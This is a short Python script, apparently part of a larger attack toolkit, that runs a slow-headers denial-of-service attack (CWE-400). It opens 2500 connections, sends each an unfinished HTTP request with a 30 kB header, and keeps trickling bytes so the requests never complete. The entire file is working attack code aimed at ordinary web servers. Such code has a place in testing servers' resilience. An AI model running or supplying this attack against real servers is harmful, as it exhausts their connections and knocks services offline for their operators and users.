#!/usr/bin/env python3
"""Begins requests on many connections, each of 30 kB, and ends none of them (slow headers, CWE-400)."""

from sender import Attack, arguments


class PartialHeads(Attack):
    def begin(self, sock):
        sock.sendall(b"GET / HTTP/1.1\r\nHost: attack\r\nX-Long: " + b"x" * 30_000)

    def step(self, sock):
        try:
            sock.recv(4096)  # an answer, or the end
            return False
        except BlockingIOError:
            sock.sendall(b"x")
            return True


PartialHeads(arguments(__doc__, connections=2500)).run()
